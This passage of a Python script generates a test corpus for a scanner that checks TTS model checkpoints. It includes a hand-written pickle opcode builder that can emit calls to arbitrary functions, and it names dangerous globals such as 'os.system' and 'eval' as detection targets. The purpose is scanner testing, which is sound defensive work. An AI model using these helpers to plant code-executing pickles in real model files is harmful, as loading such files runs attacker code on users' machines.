#!/usr/bin/python3
"""Generate the `ttsguard scan` test corpus.

Run with Debian's python, which has python3-torch (1.13) and python3-numpy:

    apt-get install -y python3-torch python3-numpy   # if missing
    /usr/bin/python3 internal/scan/testdata/gen_corpus.py [--force] [--out DIR]

It writes DIR (default: corpus/ next to this script):

    corpus/benign/...      files every scanner must call clean (profile coqui)
    corpus/malicious/...   one or more files per attack technique
    corpus/expected.json   what the scanner must say about each file

The output is deterministic: fixed seeds, no timestamps (torch 1.13 writes its
zips with 1980-01-01 dates; the zips, tars and 7z archives written here use
fixed dates too), storage keys numbered in order. The corpus is written into a
temporary folder, checked, and then renamed into place; an existing corpus is
only replaced with --force.

Checks made before anything is put in place: every benign file is loaded
back (torch.load, np.load, json) and compared with what was saved; every
malicious pickle is only disassembled (pickletools.genops), never loaded, to
prove that the opcode named in expected.json sits at the given offset.

expected.json is a list of objects:

    file       path relative to corpus/
    format     what scan.Detect must return for the file ("zip", "tar",
               "torch-legacy", "pickle", "npy", "safetensors", "7z", "text")
    verdict    "clean" | "unsafe" | "unscannable". "unscannable" is used
               whenever a careful parser cannot read the whole file, even if
               it also holds a payload (findings made before the error are
               still expected).
    technique  short description
    global     for pickle payloads: "module.qualname" of the disallowed global
               exactly as the stream spells it (GLOBAL "torch" "os.system"
               gives "torch.os.system"; "__builtin__.eval" is not rewritten
               to builtins), else null
    opcode     the opcode that produces that global (GLOBAL, STACK_GLOBAL,
               INST, EXT1/EXT2/EXT4); for rule_hint cases the opcode at
               "offset" when one applies
    offset     byte offset of that opcode within the innermost member's
               uncompressed bytes (or within the file when there is no
               member); for .npy the offset is within the .npy bytes
               (header included). null when not applicable.
    member     archive member path when the payload is inside an archive
               (zip/tar/npz/7z member names as the archive spells them;
               nested members joined with "!"); absent otherwise
    also       other findings that must be present (same keys), e.g. the
               copyreg.add_extension call before an EXT1
    rule_hint  what the scanner must find when no single global applies
    field      config cases: the offending field path
    globals    benign pickle-bearing files: every global the file's pickles
               reference, "module.qualname" (to check against a profile)
"""

import argparse
import collections
import hashlib
import io
import json
import os
import pickle
import pickletools
import shutil
import struct
import subprocess
import sys
import tarfile
import tempfile
import types
import zipfile
import zlib

import numpy as np
import torch

HERE = os.path.dirname(os.path.abspath(__file__))
FIXED_DATE = (1980, 1, 1, 0, 0, 0)

EXPECTED = []  # entries of expected.json
CHECKS = []  # (entry, blob) pairs: blob is the exact bytes "offset" refers to
BENIGN_LOADS = []  # (relpath, loader, reference) to load back


# --------------------------------------------------------------------------
# Pickle assembly


class PB:
    """Writes pickle opcodes by hand and remembers labelled offsets."""

    def __init__(self, proto=None):
        self.b = bytearray()
        self.marks = {}
        if proto is not None:
            self.proto(proto)

    def raw(self, bs):
        self.b += bs
        return self

    def at(self, label):
        self.marks[label] = len(self.b)
        return self

    def op(self, *codes):
        for c in codes:
            self.b += c
        return self

    def proto(self, n):
        return self.raw(b"\x80" + bytes([n]))

    def frame(self, n):
        return self.raw(b"\x95" + struct.pack("<Q", n))

    def glob(self, module, name, label=None):
        if label:
            self.at(label)
        m = module if isinstance(module, bytes) else module.encode("utf-8")
        n = name if isinstance(name, bytes) else name.encode("utf-8")
        return self.raw(b"c" + m + b"\n" + n + b"\n")

    def inst(self, module, name, label=None):
        if label:
            self.at(label)
        return self.raw(b"i" + module.encode("utf-8") + b"\n" + name.encode("utf-8") + b"\n")

    def u(self, s):  # BINUNICODE
        e = s.encode("utf-8")
        return self.raw(b"X" + struct.pack("<I", len(e)) + e)

    def su(self, s):  # SHORT_BINUNICODE (protocol 4)
        e = s.encode("utf-8")
        assert len(e) < 256
        return self.raw(b"\x8c" + bytes([len(e)]) + e)

    def u0(self, s):  # UNICODE (protocol 0)
        return self.raw(b"V" + s.encode("raw-unicode-escape") + b"\n")

    def bb(self, data):  # BINBYTES (protocol 3)
        return self.raw(b"B" + struct.pack("<I", len(data)) + data)

    def i(self, n):
        if 0 <= n < 256:
            return self.raw(b"K" + bytes([n]))
        if 0 <= n < 65536:
            return self.raw(b"M" + struct.pack("<H", n))
        return self.raw(b"J" + struct.pack("<i", n))

    def put(self, n):
        return self.raw(b"q" + bytes([n]) if n < 256 else b"r" + struct.pack("<I", n))

    def get(self, n):
        return self.raw(b"h" + bytes([n]) if n < 256 else b"j" + struct.pack("<I", n))

    def args(self, value):
        """Pushes a constant (tuple, list, str, int ...) pickled by the pickle
        module with protocol 3, without its PROTO and STOP. Its memo puts start
        at 100 so they never collide with hand-written ones."""
        out = bytearray()
        data = pickle.dumps(value, protocol=3)
        ops = list(pickletools.genops(data))
        for k, (op, arg, pos) in enumerate(ops):
            end = ops[k + 1][2] if k + 1 < len(ops) else len(data)
            chunk = data[pos:end]
            if op.name in ("PROTO", "STOP"):
                continue
            if op.name == "BINPUT":
                chunk = b"r" + struct.pack("<I", arg + 100)
            elif op.name == "BINGET":
                chunk = b"j" + struct.pack("<I", arg + 100)
            elif op.name in ("LONG_BINPUT", "LONG_BINGET"):
                raise ValueError("args too large")
            out += chunk
        return self.raw(bytes(out))

    STOP = b"."
    MARK = b"("
    POP = b"0"
    DUP = b"2"
    NONE = b"N"
    REDUCE = b"R"
    BUILD = b"b"
    TUPLE = b"t"
    TUPLE1 = b"\x85"
    TUPLE2 = b"\x86"
    TUPLE3 = b"\x87"
    EMPTY_TUPLE = b")"
    EMPTY_LIST = b"]"
    EMPTY_DICT = b"}"
    APPEND = b"a"
    APPENDS = b"e"
    SETITEM = b"s"
    SETITEMS = b"u"
    OBJ = b"o"
    NEWOBJ = b"\x81"
    STACK_GLOBAL = b"\x93"
    MEMOIZE = b"\x94"
    NEWFALSE = b"\x89"

    def bytes(self):
        return bytes(self.b)


def call_pickle(module, name, args, proto=2):
    """PROTO, GLOBAL module name, args, REDUCE, STOP. Returns (bytes, offset of GLOBAL)."""
    p = PB(proto).glob(module, name, "g").args(args).op(PB.REDUCE, PB.STOP)
    return p.bytes(), p.marks["g"]


def genops_all(data):
    """All opcodes of the stacked pickles in data: [(pos, name, arg)], and the
    error that stopped the walk (None when data ended cleanly)."""
    f = io.BytesIO(data)
    ops = []
    try:
        while f.tell() < len(data):
            for op, arg, pos in pickletools.genops(f):
                ops.append((pos, op.name, arg))
    except Exception as e:  # noqa: BLE001 - a corrupt stream is the point
        return ops, e
    return ops, None


def find_global(data, module, name):
    """Offset of the GLOBAL opcode for module/name in data."""
    ops, _ = genops_all(data)
    hits = [pos for pos, n, arg in ops if n == "GLOBAL" and arg == f"{module} {name}"]
    assert len(hits) >= 1, (module, name)
    return hits[0]


def pickle_globals(data):
    """'module.qualname' of every GLOBAL/INST/STACK_GLOBAL in data (stacked)."""
    ops, _ = genops_all(data)
    out = set()
    strs = []
    for pos, n, arg in ops:
        if n in ("GLOBAL", "INST"):
            m, q = arg.split(" ", 1)
            out.add(f"{m}.{q}")
        elif n == "STACK_GLOBAL":
            out.add(f"{strs[-2]}.{strs[-1]}")
        if n in ("SHORT_BINUNICODE", "BINUNICODE", "UNICODE", "BINUNICODE8"):
            strs.append(arg)
    return out


# --------------------------------------------------------------------------
# Containers


def torch_save(obj):
    """torch.save into memory: member names start with archive/."""
    b = io.BytesIO()
    torch.save(obj, b)
    return b.getvalue()


def torch_zip(records):
    """A zip written by torch's own writer (PyTorchFileWriter): records are
    (name, bytes) under archive/; archive/version is added at the end."""
    b = io.BytesIO()
    w = torch._C.PyTorchFileWriter(b)
    for name, data in records:
        w.write_record(name, data, len(data))
    w.write_end_of_file()
    return b.getvalue()


def zip_records(data):
    """Members of a zip in central-directory order: (name, bytes)."""
    z = zipfile.ZipFile(io.BytesIO(data))
    return [(i.filename, z.read(i.filename)) for i in z.infolist()]


def zip_central(data):
    """Parses the central directory: list of dicts with the offsets of each
    entry's central record, local header and data."""
    eocd = data.rindex(b"PK\x05\x06")
    n = struct.unpack_from("<H", data, eocd + 10)[0]
    cd_off = struct.unpack_from("<I", data, eocd + 16)[0]
    out = []
    p = cd_off
    for _ in range(n):
        assert data[p:p + 4] == b"PK\x01\x02"
        flags, = struct.unpack_from("<H", data, p + 8)
        nlen, elen, clen = struct.unpack_from("<HHH", data, p + 28)
        local, = struct.unpack_from("<I", data, p + 42)
        name = data[p + 46:p + 46 + nlen].decode("utf-8")
        lnlen, lelen = struct.unpack_from("<HH", data, local + 26)
        out.append(dict(name=name, central=p, flags=flags, local=local,
                        data=local + 30 + lnlen + lelen,
                        size=struct.unpack_from("<I", data, p + 24)[0]))
        p += 46 + nlen + elen + clen
    return out


def plain_zip(members, zip64=False):
    """A zip like numpy's savez writes (stored), with fixed dates."""
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w", zipfile.ZIP_STORED) as zf:
        for name, data in members:
            zi = zipfile.ZipInfo(name, date_time=FIXED_DATE)
            zi.external_attr = 0o600 << 16
            with zf.open(zi, "w", force_zip64=zip64) as f:
                f.write(data)
    return b.getvalue()


def tar_bytes(members):
    """A tar like old torch.save wrote (PAX format, mtime 0)."""
    b = io.BytesIO()
    with tarfile.open(fileobj=b, mode="w:", format=tarfile.PAX_FORMAT) as t:
        for name, data in members:
            ti = tarfile.TarInfo(name)
            ti.size = len(data)
            ti.mtime = 0
            t.addfile(ti, io.BytesIO(data))
    return b.getvalue()


def sz_number(n):
    """7z variable-length NUMBER."""
    for i in range(8):
        if n < (1 << (7 * (i + 1))):
            first = ((0xFF << (8 - i)) & 0xFF) | (n >> (8 * i))
            return bytes([first]) + (n & ((1 << (8 * i)) - 1)).to_bytes(i, "little")
    return b"\xff" + n.to_bytes(8, "little")


def sevenzip(files):
    """A 7z archive with one Copy (stored) folder holding files [(name, bytes)],
    no timestamps or attributes."""
    packed = b"".join(d for _, d in files)
    h = bytearray(b"\x01")  # kHeader
    h += b"\x04"  # kMainStreamsInfo
    h += b"\x06" + sz_number(0) + sz_number(1) + b"\x09" + sz_number(len(packed)) + b"\x00"  # kPackInfo
    h += b"\x07\x0b" + sz_number(1) + b"\x00"  # kUnPackInfo, kFolder, 1 folder, not external
    h += sz_number(1) + b"\x01\x00"  # 1 coder: simple, id size 1, id 0x00 = Copy
    h += b"\x0c" + sz_number(len(packed))  # kCodersUnPackSize
    h += b"\x00"  # kEnd of UnPackInfo
    h += b"\x08"  # kSubStreamsInfo
    h += b"\x0d" + sz_number(len(files))  # kNumUnPackStream
    if len(files) > 1:
        h += b"\x09" + b"".join(sz_number(len(d)) for _, d in files[:-1])  # kSize (all but last)
    h += b"\x0a\x01" + b"".join(struct.pack("<I", zlib.crc32(d)) for _, d in files)  # kCRC, all defined
    h += b"\x00"  # kEnd of SubStreamsInfo
    h += b"\x00"  # kEnd of MainStreamsInfo
    h += b"\x05" + sz_number(len(files))  # kFilesInfo
    names = b"".join(n.encode("utf-16-le") + b"\x00\x00" for n, _ in files)
    h += b"\x11" + sz_number(len(names) + 1) + b"\x00" + names  # kName, not external
    h += b"\x00"  # kEnd of FilesInfo
    h += b"\x00"  # kEnd of Header
    start = struct.pack("<QQI", len(packed), len(h), zlib.crc32(h))
    return b"7z\xbc\xaf\x27\x1c\x00\x04" + struct.pack("<I", zlib.crc32(start)) + start + packed + bytes(h)


def npy_header(descr, shape):
    b = io.BytesIO()
    np.lib.format.write_array_header_1_0(b, {"descr": descr, "fortran_order": False, "shape": shape})
    return b.getvalue()


def npy_bytes(arr, allow_pickle=False):
    b = io.BytesIO()
    np.save(b, arr, allow_pickle=allow_pickle)
    return b.getvalue()


def safetensors_bytes(tensors, metadata, header_size=None):
    """tensors: [(name, dtype, shape, raw bytes)]; header padded with spaces to
    a multiple of 8 (as the safetensors writer does) or to header_size."""
    header = {"__metadata__": metadata}
    off = 0
    for name, dt, shape, raw in tensors:
        header[name] = {"dtype": dt, "shape": list(shape), "data_offsets": [off, off + len(raw)]}
        off += len(raw)
    js = json.dumps(header, separators=(",", ":")).encode()
    size = header_size if header_size is not None else (len(js) + 7) // 8 * 8
    assert len(js) <= size
    js += b" " * (size - len(js))
    return struct.pack("<Q", len(js)) + js + b"".join(raw for *_, raw in tensors)


# --------------------------------------------------------------------------
# Legacy torch formats, written the way torch wrote them but with storage
# keys numbered in order (torch used id()/_cdata, which change every run).

MAGIC_NUMBER = 0x1950A86A20F9469CFC6C
PROTOCOL_VERSION = 1001
SYS_INFO = dict(protocol_version=PROTOCOL_VERSION, little_endian=True,
                type_sizes=dict(short=2, int=4, long=4))


def storage_bytes(ts):
    return bytes(ts._storage.tolist())


def legacy_raw(obj, sys_info_pickle=None, keys_pickle=None):
    """torch.save(..., _use_new_zipfile_serialization=False) with deterministic
    keys. Returns (file bytes, dict of section offsets)."""
    storages = {}
    ids = {}

    class P(pickle.Pickler):
        def persistent_id(self, o):
            if isinstance(o, torch.storage.TypedStorage):
                key = ids.setdefault(o._cdata, str(len(ids)))
                storages[key] = o
                return ("storage", getattr(torch, o.pickle_storage_type()), key, "cpu", o.size(), None)
            return None

    out = io.BytesIO()
    sec = {}
    pickle.dump(MAGIC_NUMBER, out, protocol=2)
    pickle.dump(PROTOCOL_VERSION, out, protocol=2)
    sec["sys_info"] = out.tell()
    out.write(sys_info_pickle if sys_info_pickle is not None else pickle.dumps(SYS_INFO, protocol=2))
    sec["data"] = out.tell()
    P(out, protocol=2).dump(obj)
    keys = sorted(storages)
    sec["keys"] = out.tell()
    out.write(keys_pickle(keys) if keys_pickle is not None else pickle.dumps(keys, protocol=2))
    sec["storages"] = out.tell()
    for k in keys:
        s = storages[k]
        out.write(struct.pack("<q", s.size()))
        out.write(storage_bytes(s))
    return out.getvalue(), sec


def legacy_tar(obj, storages_count_pickle=None):
    """The pre-0.4 torch.save tar format: members sys_info, pickle, tensors,
    storages (torch/serialization.py _legacy_load, tar branch)."""
    tensors = {}  # key -> tensor
    storages = {}  # _cdata -> (key, TypedStorage)

    class P(pickle.Pickler):
        def persistent_id(self, o):
            if isinstance(o, torch.Tensor):
                for k, t in tensors.items():
                    if t is o:
                        return str(k)
                k = 1000 + len(tensors)  # tensor keys never collide with storage keys
                tensors[k] = o
                return str(k)
            return None

    pb = io.BytesIO()
    P(pb, protocol=2).dump(obj)

    tb = io.BytesIO()
    pickle.dump(len(tensors), tb, protocol=2)
    for k, t in tensors.items():
        ts = t.storage()
        if ts._cdata not in storages:
            storages[ts._cdata] = (len(storages), ts)
        sk = storages[ts._cdata][0]
        pickle.dump((k, sk, getattr(torch, ts.pickle_storage_type().replace("Storage", "Tensor"))), tb, protocol=2)
        tb.write(struct.pack("<i", t.dim()) + b"\x00" * 4)
        tb.write(struct.pack(f"<{t.dim()}q", *t.size()))
        tb.write(struct.pack(f"<{t.dim()}q", *t.stride()))
        tb.write(struct.pack("<q", t.storage_offset()))

    sb = io.BytesIO()
    sb.write(storages_count_pickle if storages_count_pickle is not None else pickle.dumps(len(storages), protocol=2))
    for sk, ts in storages.values():
        pickle.dump((sk, "cpu", getattr(torch, ts.pickle_storage_type())), sb, protocol=2)
        sb.write(struct.pack("<q", ts.size()))
        sb.write(storage_bytes(ts))
    pickle.dump([], sb, protocol=2)  # storage views

    members = [("sys_info", pickle.dumps(SYS_INFO, protocol=2)), ("pickle", pb.getvalue()),
               ("tensors", tb.getvalue()), ("storages", sb.getvalue())]
    return tar_bytes(members), dict(members)


# --------------------------------------------------------------------------
# Hand-made torch data.pkl with storages and rebuilds chosen freely


class FakeStorage:
    def __init__(self, key, stype, numel):
        self.key, self.stype, self.numel = key, stype, numel


class FakeTensor:
    def __init__(self, storage, offset, size, stride):
        self.storage, self.offset, self.size, self.stride = storage, offset, size, stride

    def __reduce__(self):
        return (torch._utils._rebuild_tensor_v2,
                (self.storage, self.offset, tuple(self.size), tuple(self.stride), False, collections.OrderedDict()))


def fake_data_pkl(obj):
    class P(pickle.Pickler):
        def persistent_id(self, o):
            if isinstance(o, FakeStorage):
                return ("storage", o.stype, o.key, "cpu", o.numel)
            return None

    b = io.BytesIO()
    P(b, protocol=2).dump(obj)
    return b.getvalue()


# --------------------------------------------------------------------------
# Fake coqui modules, so that pickle writes the names real checkpoints carry.


def fake_module(name):
    parts = name.split(".")
    for i in range(1, len(parts) + 1):
        n = ".".join(parts[:i])
        if n not in sys.modules:
            m = types.ModuleType(n)
            sys.modules[n] = m
            if i > 1:
                setattr(sys.modules[".".join(parts[:i - 1])], parts[i - 1], m)
    return sys.modules[name]


def fake_class(module, name, base=object):
    def __init__(self, **kw):
        self.__dict__.update(kw)

    def __eq__(self, other):
        return type(self) is type(other) and self.__dict__ == other.__dict__

    cls = type(name, (base,), {"__init__": __init__, "__eq__": __eq__, "__hash__": None})
    cls.__module__ = module
    cls.__qualname__ = name
    setattr(fake_module(module), name, cls)
    return cls


BaseDatasetConfig = fake_class("TTS.config.shared_configs", "BaseDatasetConfig")
XttsConfig = fake_class("TTS.tts.configs.xtts_config", "XttsConfig")
XttsArgs = fake_class("TTS.tts.models.xtts", "XttsArgs")
XttsAudioConfig = fake_class("TTS.tts.models.xtts", "XttsAudioConfig")


class RAdam(torch.optim.Optimizer):
    """A minimal stand-in for TTS.utils.radam.RAdam (an Optimizer subclass)."""

    def __init__(self, params, lr=1e-3, betas=(0.9, 0.999), eps=1e-8, weight_decay=0):
        super().__init__(params, dict(lr=lr, betas=betas, eps=eps, weight_decay=weight_decay))

    @torch.no_grad()
    def step(self, closure=None):
        for group in self.param_groups:
            for p in group["params"]:
                if p.grad is None:
                    continue
                st = self.state[p]
                if not st:
                    st["step"] = 0
                    st["exp_avg"] = torch.zeros_like(p)
                    st["exp_avg_sq"] = torch.zeros_like(p)
                st["step"] += 1
                st["exp_avg"].mul_(group["betas"][0]).add_(p.grad, alpha=1 - group["betas"][0])
                st["exp_avg_sq"].mul_(group["betas"][1]).addcmul_(p.grad, p.grad, value=1 - group["betas"][1])
                p.add_(st["exp_avg"], alpha=-group["lr"])


RAdam.__module__ = "TTS.utils.radam"
RAdam.__qualname__ = "RAdam"
fake_module("TTS.utils.radam").RAdam = RAdam


# --------------------------------------------------------------------------
# Recording


def record(rel, verdict, technique, fmt, **kw):
    e = {"file": rel, "format": fmt, "verdict": verdict, "technique": technique}
    if verdict == "clean":
        if "globals" in kw:
            e["globals"] = kw["globals"]
    else:
        e["global"] = kw.get("global")
        e["offset"] = kw.get("offset")
        for k in ("opcode", "member", "also", "field", "rule_hint"):
            if kw.get(k) is not None:
                e[k] = kw[k]
    EXPECTED.append(e)
    return e


class Writer:
    def __init__(self, root):
        self.root = root

    def write(self, rel, data):
        p = os.path.join(self.root, rel)
        os.makedirs(os.path.dirname(p), exist_ok=True)
        with open(p, "wb") as f:
            f.write(data)
        return p


def mal(w, name, data, technique, fmt, blob=None, pstart=0, **kw):
    """Writes malicious/name and records it; blob is what offsets refer to,
    and its pickles start at pstart (after a .npy header)."""
    rel = "malicious/" + name
    w.write(rel, data)
    e = record(rel, kw.pop("verdict", "unsafe"), technique, fmt, **kw)
    CHECKS.append((e, blob if blob is not None else data, pstart))
    return e


# --------------------------------------------------------------------------
# Benign corpus


def tiny_model():
    torch.manual_seed(0)
    return torch.nn.Sequential(collections.OrderedDict([
        ("emb", torch.nn.Embedding(6, 4)),
        ("proj", torch.nn.Linear(4, 3)),
        ("norm", torch.nn.LayerNorm(3)),
    ]))


def state_dict_with_views():
    sd = tiny_model().state_dict()
    base = torch.arange(24, dtype=torch.float32)
    sd["view.slice"] = base[5:11]  # storage offset 5, shares storage with view.matrix
    sd["view.matrix"] = base.view(4, 6).t()  # non-contiguous: stride (1, 6)
    sd["num_batches_tracked"] = torch.tensor(7)
    return sd


def eq(a, b):
    """Deep equality of loaded objects (tensors compared exactly)."""
    if isinstance(a, torch.Tensor):
        return isinstance(b, torch.Tensor) and a.dtype == b.dtype and a.shape == b.shape and a.stride() == b.stride() \
            and bool(torch.equal(a, b))
    if isinstance(a, np.ndarray):
        return isinstance(b, np.ndarray) and a.dtype == b.dtype and a.shape == b.shape and \
            (all(eq(x, y) for x, y in zip(a.ravel(), b.ravel())) if a.dtype == object else np.array_equal(a, b))
    if isinstance(a, dict):
        return isinstance(b, dict) and type(a) is type(b) and list(a.keys()) == list(b.keys()) and \
            all(eq(a[k], b[k]) for k in a)
    if isinstance(a, (list, tuple)):
        return type(a) is type(b) and len(a) == len(b) and all(eq(x, y) for x, y in zip(a, b))
    if hasattr(a, "__dict__") and not isinstance(a, type):
        return type(a) is type(b) and eq(vars(a), vars(b))
    return type(a) is type(b) and a == b


def gen_benign(w):
    def benign(rel, data, fmt, technique, load=None, ref=None, pickles=None):
        w.write("benign/" + rel, data)
        kw = {}
        if pickles is not None:
            g = set()
            for blob in pickles:
                g |= pickle_globals(blob)
            kw["globals"] = sorted(g)
        record("benign/" + rel, "clean", technique, fmt, **kw)
        if load is not None:
            BENIGN_LOADS.append(("benign/" + rel, load, ref))

    def tload(path):
        return torch.load(path)

    def zip_pkls(data):
        return [d for n, d in zip_records(data) if n.endswith(".pkl")]

    # 1. Plain state dict, zip format (torch.save default), with views.
    sd = state_dict_with_views()
    d = torch_save(sd)
    benign("model_state_dict.pth", d, "zip", "torch.save state dict (zip), with a slice view and a transposed view",
           lambda p: torch.load(p, weights_only=True), sd, zip_pkls(d))

    # 2. Legacy raw (torch.save(..., _use_new_zipfile_serialization=False)).
    sd2 = tiny_model().state_dict()
    d, _ = legacy_raw(sd2)
    benign("legacy_raw_state_dict.pth", d, "torch-legacy",
           "legacy raw torch.save: magic, protocol, sys_info, data and storage-key pickles, then storages",
           tload, sd2, [d[:_["storages"]]])

    # 3. Legacy tar (torch < 0.4).
    sd3 = tiny_model().state_dict()
    d, members = legacy_tar(sd3)
    # tensors/storages hold pickled records between raw data; genops stops at the first raw bytes, after
    # the count and the first record, which already name every global those members use.
    tar_pickles = [members["sys_info"], members["pickle"], members["tensors"], members["storages"]]
    benign("legacy_tar_state_dict.pth", d, "tar",
           "legacy tar torch.save (members sys_info, pickle, tensors, storages); tensor records name torch.FloatTensor",
           tload, sd3, tar_pickles)

    # 4. coqui trainer checkpoint with optimizer.state_dict() and a defaultdict.
    model = tiny_model()
    opt = torch.optim.Adam(model.parameters(), lr=1e-3)
    model(torch.tensor([[1, 2]])).sum().backward()
    opt.step()
    osd = opt.state_dict()
    osd["state"] = collections.defaultdict(dict, osd["state"])
    config = {"model": "vits", "run_name": "ljspeech", "batch_size": 32, "lr": 0.0002,
              "audio": {"sample_rate": 22050, "stats_path": None}, "output_path": "output/"}
    ckpt = {"config": config, "model": model.state_dict(), "optimizer": osd,
            "scaler": {"scale": 65536.0, "growth_factor": 2.0, "backoff_factor": 0.5, "growth_interval": 2000,
                       "_growth_tracker": 0},
            "step": 1000, "epoch": 3, "date": "March 01, 2024", "model_loss": 0.4375}
    d = torch_save(ckpt)
    benign("coqui_trainer_checkpoint.pth", d, "zip",
           "coqui trainer checkpoint: model, optimizer.state_dict() with state as collections.defaultdict(dict), "
           "scaler dict, step, epoch, date, config dict, model_loss", tload, ckpt, zip_pkls(d))

    # 5. coqui checkpoint holding the optimizer object itself (RAdam, state is a defaultdict keyed by Parameters).
    model = tiny_model()
    ropt = RAdam(model.parameters(), lr=1e-3)
    model(torch.tensor([[3, 4]])).sum().backward()
    ropt.step()
    ckpt = {"model": model.state_dict(), "optimizer": ropt, "scaler": None, "step": 10, "epoch": 1,
            "date": "March 01, 2024", "config": {"model": "tacotron2"}, "model_loss": 1.25}
    d = torch_save(ckpt)

    def check_radam(p):
        o = torch.load(p)
        assert type(o["optimizer"]) is RAdam and isinstance(o["optimizer"].state, collections.defaultdict)
        assert len(o["optimizer"].state) == len(list(model.parameters()))
        o["optimizer"] = None
        return o

    ref = dict(ckpt, optimizer=None)
    benign("coqui_radam_optimizer_object.pth", d, "zip",
           "coqui checkpoint pickling the optimizer object TTS.utils.radam.RAdam (state: defaultdict keyed by "
           "Parameters)", check_radam, ref, zip_pkls(d))

    # 6. XTTS-style checkpoint with config objects (NEWOBJ + BUILD of __dict__ state).
    audio = XttsAudioConfig(sample_rate=22050, output_sample_rate=24000, dvae_sample_rate=22050)
    args = XttsArgs(gpt_layers=30, gpt_n_model_channels=1024, gpt_number_text_tokens=6681, use_hifigan=True,
                    kv_cache=True, gpt_cond_len=30, tokenizer_file="")
    ds = BaseDatasetConfig(formatter="ljspeech", dataset_name="", path="", meta_file_train="", language="en")
    cfg = XttsConfig(model="xtts", audio=audio, model_args=args, datasets=[ds], languages=["en", "de", "fr"],
                     temperature=0.75, length_penalty=1.0)
    ckpt = {"config": cfg, "model": tiny_model().state_dict()}
    d = torch_save(ckpt)
    benign("xtts_checkpoint.pth", d, "zip",
           "XTTS-style checkpoint with XttsConfig/XttsArgs/XttsAudioConfig/BaseDatasetConfig objects",
           tload, ckpt, zip_pkls(d))

    # 7. numpy scalars inside a checkpoint dict.
    ckpt = {"model": tiny_model().state_dict(), "best_loss": np.float64(1.5), "best_step": np.int64(1234),
            "lr": np.float32(0.25)}
    d = torch_save(ckpt)
    benign("numpy_scalars_checkpoint.pth", d, "zip",
           "checkpoint dict with numpy scalars (numpy.core.multiarray.scalar, numpy.dtype, _codecs.encode)",
           tload, ckpt, zip_pkls(d))

    # 8. bf16 / int8 / bool / half / int64 tensors.
    g = torch.Generator().manual_seed(1)
    sd = collections.OrderedDict([
        ("bf16", torch.randn(3, 4, generator=g).to(torch.bfloat16)),
        ("int8", torch.randint(-128, 127, (8,), generator=g, dtype=torch.int8)),
        ("bool", torch.tensor([True, False, True, True])),
        ("half", torch.randn(5, generator=g).half()),
        ("int64", torch.arange(6, dtype=torch.int64).view(2, 3)),
        ("uint8", torch.arange(10, dtype=torch.uint8)),
    ])
    d = torch_save(sd)
    benign("dtypes_state_dict.pth", d, "zip", "bf16/int8/bool/half/int64/uint8 tensors (zip)",
           lambda p: torch.load(p, weights_only=True), sd, zip_pkls(d))

    # 9. speakers.pth (coqui speaker manager file: plain containers).
    spk = {"ljspeech": {"name": "ljspeech", "embedding": [0.125, -0.5, 0.25, 1.0]},
           "vctk_p225": {"name": "vctk_p225", "embedding": [0.5, 0.0, -1.5, 0.75]}}
    d = torch_save(spk)
    # (torch 1.13's weights-only unpickler lacks BINFLOAT, so this one is loaded in full)
    benign("speakers.pth", d, "zip", "coqui speakers.pth (torch.save of a dict of dicts and lists)",
           tload, spk, zip_pkls(d))

    # 10. scale_stats.npy: np.save of a dict (0-d object array) with allow_pickle.
    rng = np.random.default_rng(0)
    stats = {"mel_mean": rng.standard_normal(80).astype(np.float32),
             "mel_std": rng.random(80).astype(np.float32) + 0.5,
             "linear_mean": rng.standard_normal(64).astype(np.float32),
             "linear_std": rng.random(64).astype(np.float32) + 0.5,
             "audio_config": {"sample_rate": 22050, "num_mels": 80, "fft_size": 1024, "signal_norm": True}}
    d = npy_bytes(stats, allow_pickle=True)
    hlen = len(npy_header("|O", ()))
    benign("scale_stats.npy", d, "npy", "coqui scale_stats.npy: object array holding a dict of float32 arrays",
           lambda p: np.load(p, allow_pickle=True).item(), stats, [d[hlen:]])

    # 11. numeric .npy and .npz.
    mel = rng.standard_normal((4, 80)).astype(np.float32)
    d = npy_bytes(mel)
    benign("mel.npy", d, "npy", "numeric .npy (float32)", lambda p: np.load(p), mel)
    arrs = {"mel_mean": rng.standard_normal(80), "ids": np.arange(10, dtype=np.int64)}
    d = plain_zip([(k + ".npy", npy_bytes(v)) for k, v in arrs.items()], zip64=True)

    def load_npz(p):
        with np.load(p) as z:
            return {k: z[k] for k in z.files}

    benign("stats.npz", d, "zip", "numeric .npz (stored, zip64 local extras like np.savez)", load_npz, arrs)

    # 12. safetensors with __metadata__.
    g = torch.Generator().manual_seed(2)
    w1 = torch.randn(4, 3, generator=g)
    w2 = torch.randn(6, generator=g).to(torch.bfloat16)
    w3 = torch.arange(5, dtype=torch.int64)
    ts = [("decoder.bias", "BF16", w2.shape, w2.view(torch.int16).numpy().tobytes()),
          ("decoder.weight", "F32", w1.shape, w1.numpy().tobytes()),
          ("speaker_ids", "I64", w3.shape, w3.numpy().tobytes())]
    st_ref = {"decoder.bias": w2, "decoder.weight": w1, "speaker_ids": w3}
    meta = {"format": "pt", "model": "vits"}
    d = safetensors_bytes(ts, meta)
    benign("model.safetensors", d, "safetensors", "safetensors with __metadata__ (F32, BF16, I64)",
           load_safetensors, (meta, st_ref))
    # Header length 0x180: the file starts 80 01, like a protocol-1 pickle.
    d = safetensors_bytes(ts, meta, header_size=0x180)
    assert d[:2] == b"\x80\x01"
    benign("header_0x180.safetensors", d, "safetensors",
           "safetensors whose header length (0x180) makes the file start with 80 01 like a pickle PROTO 1",
           load_safetensors, (meta, st_ref))

    # 13. coqui config.json (clean), and one with // comments.
    cfg = clean_config()
    d = (json.dumps(cfg, indent=4) + "\n").encode()
    benign("config.json", d, "text", "coqui VITS config.json with relative and empty paths",
           lambda p: json.load(open(p)), cfg)
    text = "// coqui configs may carry comments\n" + json.dumps(cfg, indent=4).replace(
        '    "audio": {', '    // audio settings\n    "audio": {', 1) + "\n"
    benign("config_commented.json", text.encode(), "text", "coqui config.json with // comments",
           lambda p: json.loads("\n".join(l for l in open(p) if not l.lstrip().startswith("//"))), cfg)

    # 14. A 7z holding a config and a numeric .npy.
    d = sevenzip([("config.json", (json.dumps(cfg) + "\n").encode()), ("mel.npy", npy_bytes(mel))])
    benign("bundle.7z", d, "7z", "7z (Copy method) holding config.json and a numeric .npy",
           load_7z, {"config.json": (json.dumps(cfg) + "\n").encode(), "mel.npy": npy_bytes(mel)})


def clean_config():
    return {
        "output_path": "output/",
        "model": "vits",
        "run_name": "vits_ljspeech",
        "audio": {"fft_size": 1024, "sample_rate": 22050, "win_length": 1024, "hop_length": 256,
                  "num_mels": 80, "mel_fmin": 0, "mel_fmax": None, "stats_path": "scale_stats.npy"},
        "use_phonemes": True,
        "phonemizer": "espeak",
